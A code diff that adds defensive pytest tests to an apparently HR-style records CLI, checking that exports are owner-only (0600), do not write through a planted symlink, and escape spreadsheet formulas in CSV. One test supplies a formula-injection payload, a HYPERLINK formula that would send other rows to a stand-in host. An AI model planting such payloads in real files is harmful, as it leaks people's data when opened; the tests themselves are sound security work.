@@ -2,8 +2,12 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
+import os
 import sqlite3
+import stat
 import threading
 from datetime import UTC, datetime
 from pathlib import Path
@@ -361,3 +365,70 @@ def test_export_person_keeps_the_other_sides_preparation_blind(held, host):
     service.execute(conv, PublishPreparation(actor="e2"))
     service.close()
     assert "m1-prep-text" in held.run("export", "person", "e2").stdout
+
+
+@pytest.mark.skipif(not hasattr(os, "getuid"), reason="POSIX file modes")
+@pytest.mark.parametrize("html", [False, True])
+def test_export_person_file_is_for_its_owner_only(held, html):
+    """A subject-access export holds a whole record in the clear (what others wrote about the
+    person, private notes included): the file --out writes is ``0600`` whatever the umask, and
+    a file or link already at the path is replaced, never written through."""
+    old = os.umask(0o022)
+    try:
+        elsewhere = held.dir / "elsewhere.txt"
+        elsewhere.write_text("kept\n", encoding="utf-8")
+        (held.dir / "e1.out").symlink_to(elsewhere)
+        args = ("export", "person", "e1", "--out", "e1.out", *(("--html",) if html else ()))
+        assert held.run(*args).exit_code == 0
+    finally:
+        os.umask(old)
+    written = held.dir / "e1.out"
+    assert not written.is_symlink()
+    assert stat.S_IMODE(written.stat().st_mode) == 0o600
+    assert "Oriënteert zich op een opleiding" in written.read_text(encoding="utf-8")
+    assert elsewhere.read_text(encoding="utf-8") == "kept\n"
+
+
+@pytest.mark.skipif(not hasattr(os, "getuid"), reason="POSIX file modes")
+def test_export_records_file_is_for_its_owner_only(held):
+    """The records export (summaries, agreements) is written ``0600`` too."""
+    old = os.umask(0o022)
+    try:
+        assert held.run("export", "records", "--as", "e1", "--out", "records.json").exit_code == 0
+    finally:
+        os.umask(old)
+    assert stat.S_IMODE((held.dir / "records.json").stat().st_mode) == 0o600
+
+
+def test_export_records_csv_never_starts_a_cell_with_a_formula(ready):
+    """A summary is typed by one participant and exported by the other: in the CSV a text that
+    starts like a spreadsheet formula (``=``, ``+``, ``-``, ``@``, a tab or a carriage return)
+    starts with a ``'`` instead, so opening the file never runs what someone else wrote (a
+    ``=HYPERLINK(...)`` that sends the other rows away). The JSON keeps the text as written."""
+    plan = data(
+        ready.run("plan", "--from", "2025-01-01", "--to", "2026-01-01", "--request", "--json")
+    )
+    conv = {r["person"]: r["conversation"] for r in plan["requested"]}["e1"]
+    formula = '=HYPERLINK("https://example.invalid/?"&F3,"open")'
+    result = ready.run(
+        "record",
+        conv,
+        "--as",
+        "e1",
+        "--held-on",
+        "2025-03-01",
+        "--summary",
+        formula,
+        "--agreement",
+        "employee: @SUM(1+1)",
+    )
+    assert result.exit_code == 0, result.output
+    text = ready.run("export", "records", "--as", "m1", "--format", "csv").stdout
+    rows = list(csv.DictReader(io.StringIO(text)))
+    [row] = [r for r in rows if r["id"] == conv]
+    assert row["summary"] == "'" + formula
+    for row in rows:
+        for value in row.values():
+            assert not value or value[0] not in "=+-@\t\r", row
+    records = json.loads(ready.run("export", "records", "--as", "m1").stdout)
+    assert [r["summary"] for r in records if r["id"] == conv] == [formula]
